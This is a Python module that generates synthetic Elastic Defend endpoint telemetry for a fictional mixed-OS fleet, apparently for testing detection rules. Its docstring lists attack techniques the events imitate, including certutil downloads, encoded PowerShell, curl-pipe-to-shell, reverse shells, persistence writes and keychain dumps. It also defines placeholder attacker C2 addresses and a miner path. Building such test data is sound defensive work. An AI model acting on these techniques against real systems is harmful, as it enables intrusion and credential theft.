"""Elastic Defend (endpoint integration) events for scripts/gen-corpus --mix endpoint.

Builds canonical, fully nested ECS documents as the Elastic Defend integration writes them to
logs-endpoint.events.{process,file,network,registry}-default, for Windows, Linux and macOS
hosts.  Field sets follow the per-event field lists of elastic/endpoint-package
(custom_documentation/doc/endpoint/{process,file,network,registry}/...): data_stream.*,
event.{action,category,type,kind,module,dataset,id,created,ingested,sequence}, host.os.*,
agent.type endpoint, process.{name,executable,args,args_count,command_line,pid,entity_id,
parent.*,code_signature.*,pe.*,hash.*,Ext.ancestry}, user.*, file.*, source/destination.*,
network.*, dns.*, registry.*.

Two pools come out of build_pools():
  * background: benign activity (browsers, system daemons and services, compilers, package
    managers, shells, editors, backups, DNS of common domains, Run keys of installed software,
    ...), weighted per OS and event kind;
  * suspicious: events shaped after common conditions of the bundled rules (rules/windows,
    rules/linux, rules/macos): LOLBins (certutil -urlcache, powershell -enc, mshta, regsvr32,
    rundll32, bitsadmin, wmic), curl|sh and reverse shells, cron/systemd/ld.so.preload/
    authorized_keys writes, osascript prompts, launchctl, LaunchAgents, keychain dumps, Run
    keys, IFEO, Defender-off keys, ...  Some satisfy a rule, many only come close.

Everything random comes from the rng passed in; ids and hashes of the fixed fleet are derived
from names (hashlib), so the same rng state gives the same documents.  Documents carry the
slot markers TS, ING and EID (event.id) that gen-corpus fills in per line.
"""

import base64
import hashlib
import shlex

TS, ING, EID = "\x00ts\x00", "\x00ing\x00", "\x00eid\x00"
EID_LEN = 24  # base64 of 18 random bytes, the length of Defend's event.id

AGENT_VERSION = "8.13.2"
ECS_VERSION = "8.10.0"
C2 = "185.220.101.47"      # the "attacker" address used by suspicious events
C2B = "45.77.65.211"

# Shares: OS of a Defend event, then its kind per OS (rough shares of a real mixed fleet,
# where file events dominate, then process, network and (Windows) registry events).
OS_SHARES = (("windows", 0.50), ("linux", 0.35), ("macos", 0.15))
KIND_SHARES = {
    "windows": (("process", 0.25), ("file", 0.33), ("network", 0.22), ("registry", 0.20)),
    "linux": (("process", 0.45), ("file", 0.33), ("network", 0.22)),
    "macos": (("process", 0.40), ("file", 0.38), ("network", 0.22)),
}
# Share of suspicious templates per OS in the suspicious pool.
SUSP_OS_SHARES = (("windows", 0.5), ("linux", 0.3), ("macos", 0.2))


def _pick(rng, seq):
    return seq[int(rng.random() * len(seq))]


def _weighted(rng, pairs):
    r = rng.random()
    acc = 0.0
    for v, w in pairs:
        acc += w
        if r < acc:
            return v
    return pairs[-1][0]


def _wpick(rng, entries):
    """entries: tuples whose first element is a weight."""
    total = sum(e[0] for e in entries)
    r = rng.random() * total
    for e in entries:
        r -= e[0]
        if r < 0:
            return e
    return entries[-1]


def _hid(text, n=32):
    return hashlib.sha256(text.encode()).hexdigest()[:n]


def _uuid(text):
    h = _hid(text)
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:32])


def _hashes(exe):
    b = exe.encode()
    return {"md5": hashlib.md5(b).hexdigest(), "sha1": hashlib.sha1(b).hexdigest(),
            "sha256": hashlib.sha256(b).hexdigest()}


# ---------------------------------------------------------------------------
# Fleet
# ---------------------------------------------------------------------------

OS_DOCS = {
    "win10": {"Ext": {"variant": "Windows 10 Enterprise"}, "family": "windows",
              "full": "Windows 10 Enterprise 22H2 (10.0.19045.4291)", "kernel": "22H2 (10.0.19045.4291)",
              "name": "Windows", "platform": "windows", "type": "windows", "version": "22H2"},
    "win11": {"Ext": {"variant": "Windows 11 Pro"}, "family": "windows",
              "full": "Windows 11 Pro 23H2 (10.0.22631.3447)", "kernel": "23H2 (10.0.22631.3447)",
              "name": "Windows", "platform": "windows", "type": "windows", "version": "23H2"},
    "srv2022": {"Ext": {"variant": "Windows Server 2022 Datacenter"}, "family": "windows",
                "full": "Windows Server 2022 Datacenter 21H2 (10.0.20348.2402)", "kernel": "21H2 (10.0.20348.2402)",
                "name": "Windows", "platform": "windows", "type": "windows", "version": "21H2"},
    "srv2019": {"Ext": {"variant": "Windows Server 2019 Standard"}, "family": "windows",
                "full": "Windows Server 2019 Standard 1809 (10.0.17763.5696)", "kernel": "1809 (10.0.17763.5696)",
                "name": "Windows", "platform": "windows", "type": "windows", "version": "1809"},
    "ubuntu22": {"Ext": {"variant": "Ubuntu"}, "family": "ubuntu", "full": "Ubuntu 22.04.4",
                 "kernel": "5.15.0-105-generic #115-Ubuntu SMP Mon Apr 15 09:52:04 UTC 2024",
                 "name": "Linux", "platform": "ubuntu", "type": "linux", "version": "22.04.4"},
    "ubuntu24": {"Ext": {"variant": "Ubuntu"}, "family": "ubuntu", "full": "Ubuntu 24.04",
                 "kernel": "6.8.0-31-generic #31-Ubuntu SMP PREEMPT_DYNAMIC Sat Apr 20 00:40:06 UTC 2024",
                 "name": "Linux", "platform": "ubuntu", "type": "linux", "version": "24.04"},
    "rhel9": {"Ext": {"variant": "RHEL"}, "family": "rhel", "full": "Red Hat Enterprise Linux 9.3",
              "kernel": "5.14.0-362.24.1.el9_3.x86_64 #1 SMP PREEMPT_DYNAMIC Thu Feb 15 07:18:13 EST 2024",
              "name": "Linux", "platform": "rhel", "type": "linux", "version": "9.3"},
    "debian12": {"Ext": {"variant": "Debian"}, "family": "debian", "full": "Debian 12.5",
                 "kernel": "6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01)",
                 "name": "Linux", "platform": "debian", "type": "linux", "version": "12.5"},
    "al2023": {"Ext": {"variant": "Amazon Linux"}, "family": "amazon", "full": "Amazon Linux 2023",
               "kernel": "6.1.79-99.167.amzn2023.x86_64 #1 SMP PREEMPT_DYNAMIC Wed Mar  6 22:50:19 UTC 2024",
               "name": "Linux", "platform": "amzn", "type": "linux", "version": "2023"},
    "sonoma": {"Ext": {"variant": "Darwin"}, "family": "darwin", "full": "macOS 14.4.1", "kernel": "23.4.0",
               "name": "macOS", "platform": "macos", "type": "macos", "version": "14.4.1"},
    "ventura": {"Ext": {"variant": "Darwin"}, "family": "darwin", "full": "macOS 13.6.6", "kernel": "22.6.0",
                "name": "macOS", "platform": "macos", "type": "macos", "version": "13.6.6"},
    "sequoia": {"Ext": {"variant": "Darwin"}, "family": "darwin", "full": "macOS 15.0", "kernel": "24.0.0",
                "name": "macOS", "platform": "macos", "type": "macos", "version": "15.0"},
}

HOSTS = {  # os -> (name, os doc key, ip, architecture)
    "windows": (("DESKTOP-7HQ2K9L", "win10", "10.20.4.31", "x86_64"),
                ("LAPTOP-FIN-042", "win11", "10.20.7.112", "x86_64"),
                ("WKS-ENG-17", "win11", "10.20.5.17", "x86_64"),
                ("VDI-POOL-113", "win10", "10.30.1.113", "x86_64"),
                ("SRV-SQL02", "srv2022", "10.10.2.12", "x86_64"),
                ("SRV-FILE01", "srv2022", "10.10.2.21", "x86_64"),
                ("DC01", "srv2019", "10.10.1.10", "x86_64")),
    "linux": (("web-prod-01", "ubuntu22", "10.0.12.31", "x86_64"),
              ("web-prod-02", "ubuntu22", "10.0.12.32", "x86_64"),
              ("build-runner-3", "ubuntu24", "10.0.30.3", "x86_64"),
              ("db-replica-2", "rhel9", "10.0.40.12", "x86_64"),
              ("bastion-1", "debian12", "10.0.0.5", "x86_64"),
              ("ip-10-0-33-81.ec2.internal", "al2023", "10.0.33.81", "x86_64")),
    "macos": (("Janes-MacBook-Pro", "sonoma", "192.168.1.23", "arm64"),
              ("mbp-eng-0231", "sonoma", "10.20.9.231", "arm64"),
              ("mac-mini-ci-04", "ventura", "10.0.30.54", "x86_64"),
              ("MacBook-Air-Design", "sequoia", "192.168.1.40", "arm64")),
}


class Host:
    __slots__ = ("os", "name", "ip", "agent_id", "doc")

    def __init__(self, osn, name, os_key, ip, arch):
        self.os, self.name, self.ip = osn, name, ip
        self.agent_id = _uuid("agent:" + name)
        mac = _hid("mac:" + name, 12)
        sep = "-" if osn == "windows" else ":"
        self.doc = {"architecture": arch, "hostname": name, "id": _uuid("host:" + name) if osn != "linux" else _hid("host:" + name),
                    "ip": [ip, "fe80::%s:%s:%s:%s" % (mac[:4], mac[4:8], mac[8:12], mac[:4]), "127.0.0.1"],
                    "mac": [sep.join(mac[i:i + 2] for i in range(0, 12, 2)).upper()],
                    "name": name, "os": OS_DOCS[os_key]}


FLEET = {osn: tuple(Host(osn, *h) for h in hs) for osn, hs in HOSTS.items()}

# Users.  Windows: (name, domain, sid); interactive users get placeholders {user}.
_DOM_SID = "S-1-5-21-3623811015-3361044348-30300820-"
WIN_USERS = {
    "user": (("jsmith", "CORP", _DOM_SID + "1104"), ("a.garcia", "CORP", _DOM_SID + "1187"),
             ("mchen", "CORP", _DOM_SID + "1203"), ("priya.n", "CORP", _DOM_SID + "1311"),
             ("tobias.k", "CORP", _DOM_SID + "1422")),
    "admin": (("adm-jsmith", "CORP", _DOM_SID + "2104"), ("Administrator", "CORP", _DOM_SID + "500")),
    "sys": (("SYSTEM", "NT AUTHORITY", "S-1-5-18"),),
    "svc": (("LOCAL SERVICE", "NT AUTHORITY", "S-1-5-19"), ("NETWORK SERVICE", "NT AUTHORITY", "S-1-5-20")),
    "sql": (("svc_sql", "CORP", _DOM_SID + "3101"),),
}
NIX_UIDS = {"root": 0, "ubuntu": 1000, "deploy": 1001, "jenkins": 1002, "alice": 1003, "www-data": 33,
            "postgres": 113, "_apt": 105, "_chrony": 114, "nobody": 65534, "systemd-resolve": 101,
            "jane": 501, "dev": 502, "ci": 503, "_spotlight": 89, "_mdnsresponder": 65, "_softwareupdate": 200,
            "_nsurlsessiond": 242}
LINUX_INTERACTIVE = ("ubuntu", "deploy", "alice", "jenkins")
MAC_INTERACTIVE = ("jane", "dev", "ci")


# ---------------------------------------------------------------------------
# Command lines -> process fields
# ---------------------------------------------------------------------------

def win_split(cmd):
    """CommandLineToArgvW, simplified: spaces separate, double quotes group and are dropped."""
    args, cur, inq, had = [], [], False, False
    for ch in cmd:
        if ch == '"':
            inq, had = not inq, True
        elif ch == " " and not inq:
            if cur or had:
                args.append("".join(cur))
            cur, had = [], False
        else:
            cur.append(ch)
    if cur or had:
        args.append("".join(cur))
    return args


WIN_PATHS = {
    "powershell.exe": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    "wmic.exe": r"C:\Windows\System32\wbem\WMIC.exe",
    "wmiprvse.exe": r"C:\Windows\System32\wbem\WmiPrvSE.exe",
    "explorer.exe": r"C:\Windows\explorer.exe",
}
WIN_ORIGINAL = {
    "cmd.exe": "Cmd.Exe", "powershell.exe": "PowerShell.EXE", "rundll32.exe": "RUNDLL32.EXE",
    "certutil.exe": "CertUtil.exe", "conhost.exe": "CONHOST.EXE", "mshta.exe": "MSHTA.EXE",
    "regsvr32.exe": "REGSVR32.EXE", "wmic.exe": "wmic.exe", "vssadmin.exe": "VSSADMIN.EXE",
    "bitsadmin.exe": "bitsadmin.exe", "msiexec.exe": "msiexec.exe", "svchost.exe": "svchost.exe",
    "explorer.exe": "EXPLORER.EXE", "net.exe": "net.exe", "net1.exe": "net1.exe", "reg.exe": "reg.exe",
    "schtasks.exe": "schtasks.exe", "sc.exe": "sc.exe", "whoami.exe": "whoami.exe",
    "wscript.exe": "wscript.exe", "cscript.exe": "cscript.exe", "bcdedit.exe": "bcdedit.exe",
    "wevtutil.exe": "wevtutil.exe", "netsh.exe": "netsh.exe", "taskhostw.exe": "taskhostw.exe",
    "dllhost.exe": "dllhost.exe", "runtimebroker.exe": "RuntimeBroker.exe", "curl.exe": "curl.exe",
    "nltest.exe": "nltestrk.exe", "mpcmdrun.exe": "MpCmdRun.exe", "msbuild.exe": "MSBuild.exe",
    "chrome.exe": "chrome.exe", "msedge.exe": "msedge.exe", "winword.exe": "WinWord.exe",
    "excel.exe": "Excel.exe", "outlook.exe": "Outlook.exe", "teams.exe": "Teams.exe",
    "onedrive.exe": "OneDrive.exe", "code.exe": "electron.exe", "git.exe": "git.exe",
    "python.exe": "python.exe", "node.exe": "node.exe", "7z.exe": "7z.exe", "cl.exe": "CL.exe",
    "link.exe": "LINK.EXE", "notepad.exe": "NOTEPAD.EXE", "mstsc.exe": "mstsc.exe",
}
WIN_SIGNERS = (
    (r"C:\Windows", "Microsoft Windows"),
    (r"C:\ProgramData\Microsoft\Windows Defender", "Microsoft Windows"),
    (r"C:\Program Files\Microsoft Office", "Microsoft Corporation"),
    (r"C:\Program Files (x86)\Microsoft", "Microsoft Corporation"),
    (r"C:\Program Files\Microsoft", "Microsoft Corporation"),
    (r"C:\Program Files\Google", "Google LLC"),
    (r"C:\Program Files\Git", "Johannes Schindelin"),
    (r"C:\Program Files\Python", "Python Software Foundation"),
    (r"C:\Program Files\nodejs", "OpenJS Foundation"),
    (r"C:\Program Files\Slack", "Slack Technologies, LLC"),
    (r"C:\Program Files\Zoom", "Zoom Video Communications, Inc."),
    (r"C:\Program Files\Microsoft SQL Server", "Microsoft Corporation"),
    ("\\AppData\\Local\\Microsoft\\", "Microsoft Corporation"),
    ("\\AppData\\Local\\Programs\\Microsoft VS Code\\", "Microsoft Corporation"),
)


def win_sig(exe):
    low = exe.lower()
    for prefix, subject in WIN_SIGNERS:
        p = prefix.lower()
        if low.startswith(p) or (p.startswith("\\") and p in low):
            return {"exists": True, "status": "trusted", "subject_name": subject, "trusted": True}
    return {"exists": False, "trusted": False}


def win_exe(args):
    a0 = args[0]
    if a0 == "System":  # the kernel's process (pid 4)
        return a0
    if a0.startswith("\\??\\"):
        a0 = args[0] = a0[4:]
    if "\\" in a0:
        return a0
    name = a0 if a0.lower().endswith(".exe") else a0 + ".exe"
    return WIN_PATHS.get(name.lower(), "C:\\Windows\\System32\\" + name)


NIX_PATHS = {
    "bash": "/usr/bin/bash", "sh": "/usr/bin/sh", "zsh": "/bin/zsh", "dash": "/usr/bin/dash",
    "sudo": "/usr/bin/sudo", "cron": "/usr/sbin/cron", "sshd": "/usr/sbin/sshd", "systemd": "/usr/lib/systemd/systemd",
    "launchd": "/sbin/launchd", "make": "/usr/bin/make", "gcc": "/usr/bin/gcc", "node": "/usr/bin/node",
    "nc": "/usr/bin/nc", "crontab": "/usr/bin/crontab", "useradd": "/usr/sbin/useradd", "usermod": "/usr/sbin/usermod",
    "insmod": "/usr/sbin/insmod", "setenforce": "/usr/sbin/setenforce", "iptables": "/usr/sbin/iptables",
    "ufw": "/usr/sbin/ufw", "dmidecode": "/usr/sbin/dmidecode", "chattr": "/usr/bin/chattr",
    "logrotate": "/usr/sbin/logrotate", "pkexec": "/usr/bin/pkexec", "launchctl": "/bin/launchctl",
    "dscl": "/usr/bin/dscl", "security": "/usr/bin/security", "spctl": "/usr/sbin/spctl",
    "networksetup": "/usr/sbin/networksetup", "csrutil": "/usr/bin/csrutil", "osascript": "/usr/bin/osascript",
    "system_profiler": "/usr/sbin/system_profiler", "dseditgroup": "/usr/sbin/dseditgroup",
    "login": "/usr/bin/login", "kubectl": "/usr/local/bin/kubectl", "docker": "/usr/bin/docker",
    "xmrig": "/tmp/.cache/xmrig", "python3": "/usr/bin/python3", "perl": "/usr/bin/perl",
}


def nix_exe(args, osn):
    a0 = args[0]
    if a0.startswith("/"):
        return a0
    name = a0.lstrip("-")
    if osn == "macos" and name in ("bash", "sh", "zsh", "ls", "cat", "chmod", "cp", "mv", "rm", "echo"):
        return "/bin/" + name
    return NIX_PATHS.get(name, "/usr/bin/" + name)


def _name(exe, sep):
    return exe.rsplit(sep, 1)[-1]


MAC_SIGNERS = (  # (path prefix, subject, team id); signing id from the name
    ("/Applications/Google Chrome.app", "Developer ID Application: Google LLC (EQHXZ8M8AV)", "EQHXZ8M8AV"),
    ("/Applications/Slack.app", "Developer ID Application: Slack Technologies, Inc. (BQR82RBBHL)", "BQR82RBBHL"),
    ("/Applications/zoom.us.app", "Developer ID Application: Zoom Video Communications, Inc. (BJ4HAAB9B3)", "BJ4HAAB9B3"),
    ("/Applications/Visual Studio Code.app", "Developer ID Application: Microsoft Corporation (UBF8T346G9)", "UBF8T346G9"),
    ("/Applications/Xcode.app", "Software Signing", ""),
    ("/Library/Apple/", "Software Signing", ""),
    ("/System/", "Software Signing", ""),
    ("/usr/", "Software Signing", ""),
    ("/bin/", "Software Signing", ""),
    ("/sbin/", "Software Signing", ""),
)


def mac_sig(exe):
    if exe.startswith("/usr/local/") or exe.startswith("/opt/homebrew/"):
        return {"exists": True, "signing_id": _name(exe, "/"), "status": "errorCode", "trusted": False}
    for prefix, subject, team in MAC_SIGNERS:
        if exe.startswith(prefix):
            sid = ("com.apple." if subject == "Software Signing" else "") + _name(exe, "/").replace(" ", "-")
            return {"exists": True, "signing_id": sid, "status": "trusted", "subject_name": subject,
                    "team_id": team, "trusted": True}
    return {"exists": False, "trusted": False}


class Proc:
    """A process as a command line; resolves name, executable, args per OS."""
    __slots__ = ("osn", "cmd", "args", "exe", "name")

    def __init__(self, osn, cmd, user=""):
        cmd = cmd.replace("{user}", user)
        self.osn = osn
        if osn == "windows":
            self.args = win_split(cmd)
            self.exe = win_exe(self.args)
            self.name = _name(self.exe, "\\")
            self.cmd = cmd
        else:
            self.args = shlex.split(cmd)
            self.exe = nix_exe(self.args, osn)
            self.name = _name(self.exe, "/")
            self.cmd = " ".join(self.args)


def _entity(rng, host, pid):
    t = 133597728000000000 + int(rng.random() * 10 ** 12)
    return base64.b64encode(("%s-%d-%d" % (host.agent_id, pid, t)).encode()).decode()


# ---------------------------------------------------------------------------
# Document builders
# ---------------------------------------------------------------------------

def _base(rng, host, dataset, category, action, etype, message):
    return {"@timestamp": TS,
            "agent": {"build": {"original": "version: %s, compiled: Wed Apr 10 10:00:00 2024, branch: 8.13, "
                                            "commit: 0f4fc62d3a8c5a8a2e5e7c3e0d4f3f1b2a6c7d8e" % AGENT_VERSION},
                      "id": host.agent_id, "type": "endpoint", "version": AGENT_VERSION},
            "data_stream": {"dataset": "endpoint.events." + dataset, "namespace": "default", "type": "logs"},
            "ecs": {"version": ECS_VERSION},
            "elastic": {"agent": {"id": host.agent_id}},
            "event": {"action": action, "agent_id_status": "verified", "category": [category], "created": TS,
                      "dataset": "endpoint.events." + dataset, "id": EID, "ingested": ING, "kind": "event",
                      "module": "endpoint", "sequence": 100000 + int(rng.random() * 90000000), "type": etype},
            "host": host.doc,
            "message": message}


def _user(rng, host, ukind):
    """(user doc, interactive user name for {user} placeholders)."""
    if host.os == "windows":
        if ukind in WIN_USERS:
            name, dom, sid = _pick(rng, WIN_USERS[ukind])
        else:
            name, dom, sid = _pick(rng, WIN_USERS["user"])
        if name == "Administrator":
            dom = host.name
        return {"domain": dom, "id": sid, "name": name}, name
    interactive = LINUX_INTERACTIVE if host.os == "linux" else MAC_INTERACTIVE
    name = _pick(rng, interactive) if ukind in ("U", "user") else ukind
    uid = str(NIX_UIDS.get(name, 1000))
    u = {"Ext": {"real": {"id": uid, "name": name}}, "id": uid, "name": name}
    return u, name if name in interactive or ukind == "U" else _pick(rng, interactive)


def _group(name):
    gid = str(NIX_UIDS.get(name, 1000))
    return {"Ext": {"real": {"id": gid, "name": name}}, "id": gid, "name": name}


def _win_process(rng, host, p, parent, full, token="medium"):
    pid = 1000 + int(rng.random() * 60000) * 4 % 60000
    eid = _entity(rng, host, pid)
    ppid = 400 + int(rng.random() * 15000) * 4 % 15000
    peid = _entity(rng, host, ppid)
    sig = win_sig(p.exe)
    proc = {"Ext": {"ancestry": [peid] + [_entity(rng, host, 4 * int(rng.random() * 3000)) for _ in range(int(rng.random() * 3) + 1)],
                    "code_signature": [sig]},
            "code_signature": sig, "entity_id": eid, "executable": p.exe, "name": p.name, "pid": pid}
    if full:
        proc["Ext"]["token"] = {"elevation_level": "full" if token in ("system", "high") else "default",
                                "integrity_level_name": token}
        proc.update({"args": p.args, "args_count": len(p.args), "command_line": p.cmd, "hash": _hashes(p.exe),
                     "pe": {"original_file_name": WIN_ORIGINAL.get(p.name.lower(), p.name),
                            "imphash": _hid("imp:" + p.exe)},
                     "working_directory": "C:\\Windows\\system32\\" if token == "system" else
                     "C:\\Users\\%s\\" % ("Public" if "\\Users\\" not in p.exe else p.exe.split("\\")[2])})
        if parent is not None:
            proc["parent"] = {"args": parent.args, "args_count": len(parent.args), "command_line": parent.cmd,
                              "code_signature": win_sig(parent.exe), "entity_id": peid, "executable": parent.exe,
                              "name": parent.name, "pid": ppid}
    else:
        proc["parent"] = {"pid": ppid}
        proc["thread"] = {"id": pid + 4 + 4 * int(rng.random() * 200)}
    return proc


def _nix_leader(rng, host, p, meta=None):
    pid = 300 + int(rng.random() * 400000)
    d = {"args": p.args, "args_count": len(p.args), "entity_id": _entity(rng, host, pid), "executable": p.exe,
         "interactive": p.name in ("bash", "zsh", "sh"), "name": p.name, "pid": pid, "same_as_process": False,
         "start": "2024-05-31T06:12:44.174Z"}
    if meta:
        d["entry_meta"] = {"type": meta}
    return d


def _nix_process(rng, host, p, parent, full, uname):
    pid = 1000 + int(rng.random() * 4000000)
    ppid = 300 + int(rng.random() * 4000000)
    eid, peid = _entity(rng, host, pid), _entity(rng, host, ppid)
    proc = {"Ext": {"ancestry": [peid] + [_entity(rng, host, 1 + int(rng.random() * 90000)) for _ in range(int(rng.random() * 3) + 1)]},
            "entity_id": eid, "executable": p.exe, "name": p.name, "pid": pid}
    if host.os == "macos":
        proc["code_signature"] = mac_sig(p.exe)
    if full:
        proc.update({"args": p.args, "args_count": len(p.args), "command_line": p.cmd, "hash": _hashes(p.exe),
                     "interactive": parent is not None and parent.name in ("bash", "zsh", "sh", "sshd", "login"),
                     "start": TS,
                     "working_directory": "/" if uname == "root" else ("/Users/" if host.os == "macos" else "/home/") + uname})
        if parent is not None:
            par = {"args": parent.args, "args_count": len(parent.args), "command_line": parent.cmd, "entity_id": peid,
                   "executable": parent.exe, "name": parent.name, "pid": ppid}
            if host.os == "macos":
                par["code_signature"] = mac_sig(parent.exe)
            else:
                par["interactive"] = parent.name in ("bash", "zsh", "sh")
                par["start"] = "2024-05-31T23:59:12.418Z"
                par["user"] = par["real_user"] = {"id": str(NIX_UIDS.get(uname, 1000)), "name": uname}
            proc["parent"] = par
        if host.os == "linux":
            ident = {"id": str(NIX_UIDS.get(uname, 1000)), "name": uname}
            proc["user"] = proc["real_user"] = proc["group"] = proc["real_group"] = ident
            sl = Proc("linux", "-bash") if uname in LINUX_INTERACTIVE else Proc("linux", "/usr/lib/systemd/systemd --system --deserialize 31")
            proc["session_leader"] = _nix_leader(rng, host, sl)
            proc["entry_leader"] = _nix_leader(rng, host, sl, "sshd" if uname in LINUX_INTERACTIVE else "init")
            proc["group_leader"] = _nix_leader(rng, host, parent or p)
    else:
        proc["parent"] = {"entity_id": peid, "pid": ppid}
    return proc


def _token(user, ukind):
    return "system" if user["id"] in ("S-1-5-18", "S-1-5-19", "S-1-5-20") else ("high" if ukind == "admin" else "medium")


def _process(rng, host, p, parent, full, user, ukind):
    if host.os == "windows":
        return _win_process(rng, host, p, parent, full, _token(user, ukind))
    return _nix_process(rng, host, p, parent, full, user["name"])


def process_event(rng, host, spec, action):
    """spec: (weight, cmd, parent cmd or None, user kind)."""
    _w, cmd, pcmd, ukind = spec[:4]
    user, me = _user(rng, host, ukind)
    p = Proc(host.os, cmd, me)
    parent = Proc(host.os, pcmd, me) if pcmd else None
    if host.os != "windows" and action == "fork" and parent is not None:
        p = parent  # a fork runs the parent's image
    etype = ["end"] if action == "end" else ["start"]
    doc = _base(rng, host, "process", "process", action, etype, "Endpoint process event")
    proc = _process(rng, host, p, parent, True, user, ukind)
    if host.os != "windows":
        if action == "exec":
            prev = parent or p
            proc["previous"] = [{"args": prev.args, "args_count": len(prev.args), "executable": prev.exe}]
        doc["group"] = _group(user["name"])
    if action == "end":
        proc["end"] = TS
        proc["exit_code"] = 0 if rng.random() < 0.9 else _pick(rng, (1, 2, 127, 130, 137, -1073741510))
    doc["process"] = proc
    doc["user"] = user
    return doc


_FILE_TYPES = {"creation": ["creation"], "deletion": ["deletion"], "modification": ["change"], "rename": ["change"],
               "overwrite": ["change"]}


def file_event(rng, host, spec, action=None):
    """spec: (weight, process cmd, user kind, path, actions)."""
    _w, pcmd, ukind, path, actions = spec
    if action is None:
        action = _pick(rng, actions)
    user, me = _user(rng, host, ukind)
    p = Proc(host.os, pcmd, me)
    sep = "\\" if host.os == "windows" else "/"
    path = path.replace("{user}", me).replace("{hex}", "%08x" % int(rng.random() * 2 ** 32)) \
        .replace("{n}", str(int(rng.random() * 9000) + 100))
    name = path.rsplit(sep, 1)[-1]
    ext = name.rsplit(".", 1)[-1] if "." in name.lstrip(".") else None
    doc = _base(rng, host, "file", "file", action, _FILE_TYPES[action], "Endpoint file event")
    f = {"name": name, "path": path}
    if ext:
        f["extension"] = ext
    if action != "deletion":
        f["size"] = int(rng.random() ** 3 * 2 ** 22)
    if host.os == "windows" and action in ("creation", "overwrite", "modification"):
        f["Ext"] = {"entropy": round(2 + rng.random() * 6, 6), "header_bytes": "%016x" % int(rng.random() * 2 ** 64),
                    "monotonic_id": int(rng.random() * 10 ** 6)}
    if action == "rename":
        if path.endswith(".locked"):
            old = path[:-len(".locked")]
        else:
            old = path + _pick(rng, (".tmp", ".partial", "~", ".crdownload"))
        f.setdefault("Ext", {})["original"] = {"name": old.rsplit(sep, 1)[-1], "path": old}
    doc["file"] = f
    proc = _process(rng, host, p, None, False, user, ukind)
    if host.os != "windows":
        proc["command_line"] = p.cmd
    doc["process"] = proc
    doc["user"] = user
    if host.os != "windows":
        doc["group"] = _group(user["name"])
    return doc


def network_event(rng, host, spec):
    """spec: (weight, process cmd, user kind, direction, remote ip or domain, port, transport)."""
    _w, pcmd, ukind, kind, remote, port, transport = spec
    user, me = _user(rng, host, ukind)
    p = Proc(host.os, pcmd, me)
    proc = _process(rng, host, p, None, False, user, ukind)
    if host.os != "windows":
        proc.pop("parent", None)
    if kind == "dns":
        action = "lookup_requested" if host.os == "windows" and rng.random() < 0.5 else "lookup_result"
        doc = _base(rng, host, "network", "network", action, ["protocol", "info"], "Endpoint DNS event")
        parts = remote.split(".")
        q = {"name": remote, "type": "A", "registered_domain": ".".join(parts[-2:]), "top_level_domain": parts[-1]}
        if len(parts) > 2:
            q["subdomain"] = ".".join(parts[:-2])
        dns = {"Ext": {"options": "0x140606000", "status": 0}, "question": q}
        if action == "lookup_result":
            dns["resolved_ip"] = ["%d.%d.%d.%d" % (int(rng.random() * 200) + 13, int(rng.random() * 255),
                                                  int(rng.random() * 255), int(rng.random() * 254) + 1)]
        doc["dns"] = dns
        doc["network"] = {"protocol": "dns", "transport": "udp", "type": "ipv4"}
        doc["destination"] = {"port": 53}
        doc["source"] = {"port": 49152 + int(rng.random() * 16000)}
    else:
        if kind == "out":
            action = "connection_attempted" if rng.random() < 0.65 else "disconnect_received"
        else:
            action = "connection_accepted" if rng.random() < 0.65 else "disconnect_received"
        etype = ["start"] if action != "disconnect_received" else ["end"]
        doc = _base(rng, host, "network", "network", action, etype, "Endpoint network event")
        eph = 32768 + int(rng.random() * 28000)
        local, far = {"address": host.ip, "ip": host.ip}, {"address": remote, "ip": remote}
        if kind == "out":
            src, dst = dict(local, port=eph), dict(far, port=port)
            direction = "egress"
        else:
            src, dst = dict(far, port=eph), dict(local, port=port)
            direction = "ingress"
        doc["source"], doc["destination"] = src, dst
        doc["network"] = {"direction": direction, "transport": transport, "type": "ipv4"}
        if action == "disconnect_received":
            src["bytes"] = int(rng.random() * 10 ** 6)
            dst["bytes"] = int(rng.random() * 10 ** 7)
    doc["process"] = proc
    doc["user"] = user
    return doc


def registry_event(rng, host, spec):
    """spec: (weight, process cmd, user kind, path, data type, data strings, action)."""
    _w, pcmd, ukind, path, dtype, strings, action = spec
    user, me = _user(rng, host, ukind)
    p = Proc("windows", pcmd, me)
    path = path.replace("{sid}", user["id"] if user["id"].startswith(_DOM_SID) else _pick(rng, WIN_USERS["user"])[2])
    if "|" in path:  # a value name holding backslashes: KEY|VALUE
        key_path, value = path.split("|")
        path = key_path + "\\" + value
        hive, key = key_path.split("\\", 1)
    else:
        hive, key_and_value = path.split("\\", 1)
        key, value = key_and_value.rsplit("\\", 1)
    doc = _base(rng, host, "registry", "registry", action, ["change"] if action == "modification" else ["deletion"],
                "Endpoint registry event")
    reg = {"hive": hive, "key": key, "path": path, "value": value}
    if action == "modification":
        reg["data"] = {"strings": [s.replace("{user}", me) for s in strings], "type": dtype}
    doc["registry"] = reg
    proc = _process(rng, host, p, None, False, user, ukind)
    proc.pop("parent", None)
    doc["process"] = proc
    doc["user"] = user
    return doc


# ---------------------------------------------------------------------------
# Vocabulary: benign (weights are relative within each list)
# ---------------------------------------------------------------------------

W_SERVICES = r"C:\Windows\system32\services.exe"
W_DCOM = r"C:\Windows\system32\svchost.exe -k DcomLaunch -p"
W_SCHED = r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"
W_EXPLORER = r"C:\Windows\Explorer.EXE"
W_USERINIT = r"C:\Windows\system32\userinit.exe"
W_CMD = r"C:\Windows\system32\cmd.exe"
W_CHROME = r'"C:\Program Files\Google\Chrome\Application\chrome.exe"'
W_EDGE = r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default'
W_CODE = r'"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe"'
W_DEVENV = r'"C:\Program Files\Microsoft Visual Studio\2022\Professional\Common7\IDE\devenv.exe" App.sln'
W_MSBUILD = r'"C:\Program Files\Microsoft Visual Studio\2022\Professional\MSBuild\Current\Bin\amd64\MSBuild.exe" /nologo /nodemode:1 /nodeReuse:true /low:false'
W_WORD = r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\Q2 planning.docx" /o ""'
W_TEAMS = r'"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe"'

